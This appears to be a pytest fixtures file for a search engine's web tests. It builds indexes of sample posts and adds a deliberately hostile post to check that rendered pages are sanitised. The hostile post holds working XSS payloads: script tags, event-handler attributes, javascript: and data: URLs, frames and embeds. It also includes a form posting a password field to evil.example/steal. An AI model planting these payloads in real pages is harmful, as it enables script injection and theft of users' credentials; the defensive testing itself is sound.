"""Fixtures shared by the web tests: real indexes of real posts, and an HTML safety check.

Import the fixtures a test module needs by name (``from web_fixtures import
sample_index``); pytest collects fixtures from the module namespace.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

import searchengine
from searchengine.engine import SearchEngine
from searchengine.indexer import BuildOptions, build_index

SAMPLES = Path(searchengine.__file__).parent / "sample_posts"
SEED = "guancha/2021/000_30739a5f1b776113.txt"
SEED_TITLE = "中俄塔利班都参加了阿富汗问题磋商，美国仍缺席"
SCRIPT_POST = "tech/2017/2017-05-03-smart-city-expo.txt"
HOSTILE_POST = "hostile/2024/2024-01-01-evil.md"
HOSTILE_WORD = "海狸鼠测试词"
SAMPLE_COUNT = sum(1 for p in SAMPLES.rglob("*") if p.is_file() and p.suffix in (".md", ".markdown", ".txt"))

# A post that tries everything: script in the title and author, handlers,
# javascript:/data:/relative URLs, frames, objects, forms, SVG and MathML.
HOSTILE_POSTS = {
    HOSTILE_POST: """---
title: '<script>alert("title")</script>恶意标题 "><img src=x onerror=alert(1)>'
author: '"><img src=x onerror=alert(2)>'
categories:
 - '<b>分类</b>'
tags:
 - 'x" onmouseover="alert(3)'
date: 2024-01-01 08:00:00
---
<div>
<p onclick="alert(4)" style="color:red" class="x" id="y">恶意正文 海狸鼠测试词 第一段</p>
<script>alert('xss')</script>
<script src="https://evil.example/x.js"></script>
<img src=x onerror=alert(5)>
<img src="https://example.com/ok.png" onload="alert(6)" alt="好图片" width="100">
<img src="javascript:alert(7)">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOCk+">
<a href="javascript:alert(9)">坏链接</a>
<a href="JaVaScRiPt:alert(10)">坏链接二</a>
<a href="https://example.com/page" target="_blank" rel="opener">好链接</a>
<a href="/relative/path">相对链接</a>
<a href="data:text/html,&lt;script&gt;alert(11)&lt;/script&gt;">数据链接</a>
<iframe src="https://evil.example/" srcdoc="<script>alert(12)</script>"></iframe>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<form action="https://evil.example/steal" method="post"><input name="pw" value="秘密"><button>提交</button></form>
<svg onload="alert(13)"><circle r="1"/></svg>
<math><mi xlink:href="javascript:alert(14)">x</mi></math>
<style>body { display: none }</style>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<p>文字里的 &lt;script&gt;alert(15)&lt;/script&gt; 只是文字，海狸鼠测试词 第二段</p>
<details open ontoggle="alert(16)"><summary>细节</summary>内容</details>
</div>
""",
}


def write_posts(root: Path, posts: dict[str, str]) -> Path:
    for relative, text in posts.items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return root


def build(posts: Path, index: Path) -> Path:
    report = build_index(posts, index, BuildOptions(workers=1))
    assert report.status == "ok", report.to_dict()
    return index


@pytest.fixture(scope="session")
def sample_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An index of the 35 sample posts, built once per session."""
    return build(SAMPLES, tmp_path_factory.mktemp("web-sample") / "index")


@pytest.fixture(scope="session")
def hostile_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An index of the sample posts plus :data:`HOSTILE_POSTS`."""
    root = tmp_path_factory.mktemp("web-hostile")
    posts = root / "posts"
    shutil.copytree(SAMPLES, posts)
    write_posts(posts, HOSTILE_POSTS)
    return build(posts, root / "index")


@pytest.fixture(scope="session")
def sample_engine(sample_index: Path) -> SearchEngine:
    return SearchEngine(sample_index)


# --- what no page may contain ----------------------------------------------

OUR_SCRIPT = "/static/search.js"
_URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "srcset", "poster", "xlink:href")


def assert_safe_html(html: str) -> None:
    """Fail if a page could run script or load style not from us.

    Allowed: our one external script, our stylesheet, our search form.
    Never: inline script or style, event-handler attributes, style
    attributes, frames, objects, embeds, other forms, base or meta refresh,
    javascript:/data:/vbscript: URLs.
    """
    tree = LexborHTMLParser(html)
    for node in tree.css("*"):
        tag = node.tag
        attributes = node.attributes
        for name, value in attributes.items():
            assert not name.lower().startswith("on"), f"event handler {name}={value!r} on <{tag}>"
            assert name.lower() != "style", f"style attribute on <{tag}>"
            if name.lower() in _URL_ATTRIBUTES and value:
                scheme = value.strip().lower().replace("\t", "").replace("\n", "")
                assert not scheme.startswith(("javascript:", "data:", "vbscript:")), f"{name}={value!r} on <{tag}>"
        if tag == "script":
            assert attributes.get("src") == OUR_SCRIPT and not (node.text() or "").strip(), node.html
        assert tag not in ("style", "iframe", "frame", "object", "embed", "applet", "base", "svg", "math"), node.html
        if tag == "form":
            assert attributes.get("action") == "/" and attributes.get("role") == "search", node.html
        if tag in ("input", "button"):
            assert node.parent is not None
            assert _in_search_form(node), node.html
        if tag == "meta":
            assert (attributes.get("http-equiv") or "").lower() != "refresh", node.html
        if tag == "link":
            assert (attributes.get("href") or "").startswith("/"), node.html


def _in_search_form(node: object) -> bool:
    parent = getattr(node, "parent", None)
    while parent is not None:
        if parent.tag == "form":
            return parent.attributes.get("role") == "search"
        parent = parent.parent
    return False
